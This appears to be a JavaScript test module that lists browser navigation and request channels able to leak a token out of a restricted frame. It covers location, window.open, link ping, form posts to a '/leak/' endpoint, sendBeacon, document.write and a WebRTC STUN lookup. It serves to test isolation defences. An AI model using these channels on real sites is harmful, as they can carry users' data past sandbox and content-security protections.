// Ways to make this frame, the page, or another window go somewhere. Each gets a
// page of its own and a click, for a click is what most of them ask for.

import { blob, put } from "./put.js";

/** @typedef {import("./channels.js").To} To */

/** @param {string} html */
const click = (html) => {
  const root = put(html);
  (root.matches("a, area, button") ? root : root.querySelector("a, area, button")).click();
};

/** @param {string} attributes @param {string} [field] */
const form = (attributes, field = "") => void put(`<form ${attributes}><input name="word" value="${field}"></form>`).submit();

/** @param {string} markup */
const write = (markup) => {
  document.open();
  document.write(markup);
  document.close();
};

/** A document that asks for an address. @param {To} to */
const asks = ({ url }) => `<img src="${url("png")}"><script>fetch("${url()}", {mode: "no-cors"})</script>`;

/** @type {{[name: string]: (to: To) => unknown}} */
const table = {
  "location": ({ url }) => void (location.href = url("html")),
  "location.assign": ({ url }) => location.assign(url("html")),
  "location.replace": ({ url }) => location.replace(url("html")),
  "location to a name": ({ named }) => location.replace(named),
  "location data": (to) => void (location.href = "data:text/html," + encodeURIComponent(asks(to))),
  "location blob": (to) => void (location.href = blob(asks(to), "text/html")),
  "location javascript": ({ url }) => void (location.href = `javascript:void fetch("${url()}", {mode: "no-cors"})`),
  // @ts-ignore: new
  "navigation.navigate": ({ url }) => void globalThis.navigation.navigate(url("html")),
  "open": ({ url }) => void open(url("html")),
  "open noopener": ({ url }) => void open(url("html"), "_blank", "noopener"),
  "open popup": ({ url }) => void open(url("html"), "_blank", "popup,width=200,height=200"),
  "open to a name": ({ named }) => void open(named),
  "open self": ({ url }) => void open(url("html"), "_self"),
  "open parent": ({ url }) => void open(url("html"), "_parent"),
  "open top": ({ url }) => void open(url("html"), "_top"),
  "open blank, then write": (to) => void /** @type {Window} */ (open("about:blank")).document.write(asks(to)),
  "open blank, then its location": ({ url }) => void (/** @type {Window} */ (open("")).location.href = url("html")),
  "open blob": (to) => void open(blob(asks(to), "text/html")),
  "open window's WebRTC": ({ token, udp, zone }) => {
    const p = new (/** @type {any} */ (open("about:blank")).RTCPeerConnection)({ iceServers: [{ urls: `stun:${token}.${zone}:${udp}` }] });
    p.createDataChannel("x");
    p.createOffer().then((/** @type {any} */ o) => p.setLocalDescription(o));
  },
  "picture-in-picture window": async ({ url }) => {
    // @ts-ignore: Chromium's
    const w = await documentPictureInPicture.requestWindow();
    w.document.body.innerHTML = `<img src="${url("png")}">`;
  },
  "top location": ({ url }) => void (/** @type {Window} */ (top).location.href = url("html")),
  "top location.replace": ({ url }) => /** @type {Window} */ (top).location.replace(url("html")),
  "top location hash": ({ token }) => void (/** @type {Window} */ (top).location.hash = token),
  "top location javascript": ({ url }) => void (/** @type {Window} */ (top).location.href = `javascript:void fetch("${url()}", {mode: "no-cors"})`),
  "parent location": ({ url }) => void (parent.location.href = url("html")),
  "own frame by way of the parent": ({ url }) => void (parent.frames[0].location.href = url("html")),
  "parent.open": ({ url }) => void parent.open(url("html")),
  "a": ({ url }) => click(`<a href="${url("html")}">x</a>`),
  "a with a hash, _top": ({ base, token }) => click(`<a target="_top" href="${base}/control#${token}">x</a>`),
  "a _blank": ({ url }) => click(`<a target="_blank" href="${url("html")}">x</a>`),
  "a _blank with opener": ({ url }) => click(`<a target="_blank" rel="opener" href="${url("html")}">x</a>`),
  "a _parent": ({ url }) => click(`<a target="_parent" href="${url("html")}">x</a>`),
  "a _top": ({ url }) => click(`<a target="_top" href="${url("html")}">x</a>`),
  "a ping": ({ url }) => click(`<a ping="${url()}" href="#x">x</a>`),
  "a ping to a script": ({ url }) => click(`<a ping="${url()}" href="javascript:void 0">x</a>`),
  "a ping of a download": ({ url }) => click(`<a ping="${url()}" download="x" href="${blob("x")}">x</a>`),
  "a attributionsrc": ({ url }) => click(`<a attributionsrc="${url()}" target="_blank" href="about:blank">x</a>`),
  "a download": ({ url }) => click(`<a download="x" href="${url()}">x</a>`),
  "a download to a name": ({ named }) => click(`<a download="x" href="${named}">x</a>`),
  "a download _blank": ({ url }) => click(`<a download="x" target="_blank" href="${url()}">x</a>`),
  "a download _top": ({ url }) => click(`<a download="x" target="_top" href="${url()}">x</a>`),
  "area": ({ url }) => click(`<map name="m"><area shape="default" href="${url("html")}"></map>`),
  "svg a": ({ url }) => void put(`<svg xmlns="http://www.w3.org/2000/svg"><a href="${url("html")}"><text y="9">x</text></a></svg>`)
    .querySelector("a").dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true })),
  "form GET": ({ base, token }) => form(`action="${base}/leak/"`, token),
  "form POST": ({ base, token }) => form(`method="post" action="${base}/leak/"`, token),
  "form _blank": ({ base, token }) => form(`target="_blank" action="${base}/leak/"`, token),
  "form _top": ({ base, token }) => form(`target="_top" action="${base}/leak/"`, token),
  "form requestSubmit": ({ url }) => void put(`<form action="${url()}"></form>`).requestSubmit(),
  "form formaction": ({ url }) => click(`<form><button formaction="${url()}">x</button></form>`),
  "form into a frame": ({ base, token }) => {
    put('<iframe name="into"></iframe>');
    form(`target="into" action="${base}/leak/"`, token);
  },
  "meta refresh": ({ url }) => void put(`<meta http-equiv="refresh" content="0;url=${url("html")}">`, document.head),
  "document.write img": ({ url }) => write(`<p id="still">still here</p><img src="${url("png")}">`),
  "document.write script": (to) => write(asks(to)),
  "document.write frameset": ({ url }) => write(`<frameset><frame src="${url("html")}"></frameset>`),
  "document.write meta refresh": ({ url }) => write(`<meta http-equiv="refresh" content="0;url=${url("html")}">`),
  "document.write link": ({ url }) => write(`<link rel="stylesheet" href="${url("css")}"><link rel="prefetch" href="${url("html")}">`),
  "innerHTML of the whole": ({ url }) => void (document.documentElement.innerHTML = `<body><img src="${url("png")}"></body>`),
  "beacon on leaving": ({ base, token }) => {
    addEventListener("pagehide", () => void navigator.sendBeacon(base + "/leak/", token));
    location.reload();
  },
};

/** Sealed, these end on an error page or replace the document: what stood there is lost. */
const loses = new Set([
  "location", "location.assign", "location.replace", "location to a name", "location data", "location blob", "navigation.navigate",
  "open self", "own frame by way of the parent", "a", "a ping", "a download", "a download to a name", "area", "svg a", "meta refresh",
  "document.write script", "document.write frameset", "document.write meta refresh", "document.write link", "innerHTML of the whole",
]);

/** What leaks in no page. @type {{[name: string]: string}} */
const never = {
  "picture-in-picture window": "only a top page may open one",
  "a attributionsrc": "asks only at a site that was enrolled for it",
};

/** @type {import("./channels.js").Channel[]} */
export const navigation = Object.entries(table).map(([name, run]) => ({
  name, run, alone: true, ...(loses.has(name) && { loses: true }), ...(never[name] && { never: never[name] }),
}));
